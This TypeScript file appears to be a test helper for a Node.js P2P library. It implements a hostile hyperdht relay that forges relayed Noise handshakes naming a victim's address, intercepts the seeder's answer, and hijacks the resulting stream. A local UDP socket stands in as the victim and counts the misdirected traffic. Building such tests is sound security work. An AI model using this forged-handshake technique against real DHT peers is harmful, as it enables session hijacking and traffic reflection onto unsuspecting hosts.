import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createRequire } from 'node:module'
import type { Duplex } from 'node:stream'
import NoiseSecretStream from '@hyperswarm/secret-stream'
import HyperDHT, { type DhtAddress, type UdxSocket } from 'hyperdht'
import { type Cleanup, onCleanup } from './cleanup.js'

/**
 * A DHT node a seeder announced its key to, turned hostile: it forges a relayed handshake (its own Noise message,
 * its own key pair) naming a victim's address as the dialler's, keeps the seeder's answer (the engine sends it to
 * the relay as a request of its own, which an honest relay passes on to the named dialler), completes the Noise
 * handshake with it, and speaks on the seeder's new stream from its own UDP socket (the engine's streams take a
 * packet from any address). The seeder connected that stream to the victim: whatever it sends goes there.
 * hyperdht 6.32's own codecs and internals, as forged-handshakes.ts reaches them.
 */

const require = createRequire(import.meta.url)
interface Wrap {
  send(payload: unknown): Buffer
  recv(noise: Uint8Array): { error: number; udx: { id: number } | null }
  final(): { tx: Buffer; rx: Buffer; hash: Buffer; publicKey: Buffer; remotePublicKey: Buffer }
}
const NoiseWrap = require('hyperdht/lib/noise-wrap.js') as new (keyPair: unknown, remotePublicKey: Buffer) => Wrap
type Route = { mode: number; noise: Uint8Array | null; peerAddress: DhtAddress | null; relayAddress: DhtAddress | null }
type State = { start: number; end: number; buffer: Uint8Array; cache?: null }
const { handshake } = require('hyperdht/lib/messages.js') as {
  handshake: { preencode(s: State, m: Route): void; encode(s: State, m: Route): void; decode(s: State): Route }
}
const { COMMANDS, FIREWALL } = require('hyperdht/lib/constants.js') as {
  COMMANDS: { PEER_HANDSHAKE: number }
  FIREWALL: { UNKNOWN: number; OPEN: number }
}
/** hyperdht's modes (lib/router.js): a relay passing a dialler's message on, and the server's answer to it. */
const FROM_RELAY = 2
const FROM_SERVER = 1

/** The engine's parts of a DHT node this reaches: its router, its request, its raw (udx) streams. */
interface NodeInternals {
  _router: { onpeerhandshake(req: { value: Uint8Array | null; target: Buffer | null; from: DhtAddress }): unknown }
  request(m: { command: number; target: Buffer; value: Buffer }, to: DhtAddress, o: object): Promise<unknown>
  createRawStream(options: { framed: boolean }): {
    readonly id: number
    connect(socket: UdxSocket, remoteId: number, port: number, host: string): void
    destroy(): void
  }
}

export interface HostileSession {
  /** The attacker's secret stream: writes reach the seeder's session as a dialler's would. */
  stream: NoiseSecretStream
  /** The seeder's udx stream id, learnt from its Noise reply. */
  serverStreamId: number
  /** This stream's udx id: the seeder's packets (to the victim) carry it. */
  ownStreamId: number
}

/**
 * `node` turned hostile against the seeder whose key is `key`: `open(to, victim)` forges one relayed handshake to
 * the seeder's DHT socket `to` naming `victim`, and resolves the session it took over, or null when no answer came
 * within `waitMs`. One at a time (an answer is taken for the last handshake sent's).
 */
export function hostileRelay(t: Cleanup, node: HyperDHT, key: Buffer) {
  const internals = node as unknown as NodeInternals
  const target = HyperDHT.hash(key)
  let waiting: ((answer: { noise: Uint8Array; from: DhtAddress }) => void) | undefined
  const router = internals._router
  const honest = router.onpeerhandshake.bind(router)
  router.onpeerhandshake = (req) => {
    let route: Route | undefined
    try {
      if (req.value) route = handshake.decode({ start: 0, end: req.value.byteLength, buffer: req.value, cache: null })
    } catch {}
    // The seeder's answer is kept, and not passed on to the named dialler as an honest relay would.
    if (route?.mode !== FROM_SERVER || !route.noise || !req.target?.equals(target)) return honest(req)
    waiting?.({ noise: route.noise, from: req.from })
    waiting = undefined
  }
  const streams: Array<{ destroy(): void }> = []
  onCleanup(t, () => {
    router.onpeerhandshake = honest
    for (const s of streams) s.destroy()
  })

  /**
   * `firewalled`: the dialler claims a firewall, so the engine connects the seeder's stream to whoever sends its
   * first packet (the relay itself, which does at once) instead of to the named address.
   */
  async function open(
    to: DhtAddress,
    victim: DhtAddress,
    waitMs = 1500,
    firewalled = false,
  ): Promise<HostileSession | null> {
    // The relay's own udx stream: the seeder is told its id, so its packets carry the id this stream reads.
    const raw = internals.createRawStream({ framed: true })
    streams.push(raw)
    const wrap = new NoiseWrap(HyperDHT.keyPair(), key)
    const noise = wrap.send({
      error: 0,
      // OPEN: the engine connects its stream to the named address at once, no hole punch.
      firewall: firewalled ? FIREWALL.UNKNOWN : FIREWALL.OPEN,
      holepunch: null,
      addresses4: [],
      addresses6: [],
      udx: { reusableSocket: false, id: raw.id, seq: 0 },
      secretStream: {},
      relayThrough: null,
    })
    const answered = new Promise<{ noise: Uint8Array; from: DhtAddress } | null>((resolve) => {
      waiting = resolve
      setTimeout(() => resolve(null), waitMs).unref()
    })
    const route: Route = { mode: FROM_RELAY, noise, peerAddress: victim, relayAddress: null }
    const state = { start: 0, end: 0, buffer: Buffer.alloc(0) }
    handshake.preencode(state, route)
    state.buffer = Buffer.alloc(state.end)
    handshake.encode(state, route)
    // From the relay's server socket, the address the seeder announced to; the request itself is never answered.
    const message = { command: COMMANDS.PEER_HANDSHAKE, target, value: state.buffer }
    internals.request(message, to, { retry: false, socket: node.io.serverSocket }).catch(() => undefined)
    const answer = await answered
    waiting = undefined
    if (!answer) return null
    let payload: ReturnType<Wrap['recv']>
    try {
      payload = wrap.recv(answer.noise) // a late answer to an earlier handshake does not decrypt
    } catch {
      return null
    }
    if (payload.error !== 0 || !payload.udx) return null
    raw.connect(node.io.serverSocket as UdxSocket, payload.udx.id, answer.from.port, answer.from.host)
    const stream = new NoiseSecretStream(true, raw as unknown as Duplex, { handshake: wrap.final() })
    stream.on('error', () => undefined)
    streams.push(stream)
    return { stream, serverStreamId: payload.udx.id, ownStreamId: raw.id }
  }
  return { open }
}

/**
 * A UDP socket on 127.0.0.1 that never answers: the bytes and datagrams that reach it, and the highest of the udx
 * acknowledgements among them by stream id (udx-native's 20-byte header alone: 0xff, version 1, no data flag; the
 * stream id at 4, the next sequence number expected at 16, little-endian): a seeder acknowledges the attacker's
 * packets where it was told its dialler is.
 */
export async function udpVictim(t: Cleanup) {
  const socket = createSocket('udp4')
  let bytes = 0
  let datagrams = 0
  const acked = new Map<number, number>()
  socket.on('message', (m) => {
    bytes += m.byteLength
    datagrams++
    if (m.byteLength !== 20 || m[0] !== 0xff || m[1] !== 1 || (m[2]! & 1) !== 0) return
    acked.set(m.readUInt32LE(4), Math.max(acked.get(m.readUInt32LE(4)) ?? 0, m.readUInt32LE(16)))
  })
  socket.bind(0, '127.0.0.1')
  await once(socket, 'listening')
  onCleanup(t, () => {
    socket.close()
  })
  const address: DhtAddress = { host: '127.0.0.1', port: socket.address().port }
  return { address, bytes: () => bytes, datagrams: () => datagrams, acked: (id: number) => acked.get(id) ?? 0 }
}
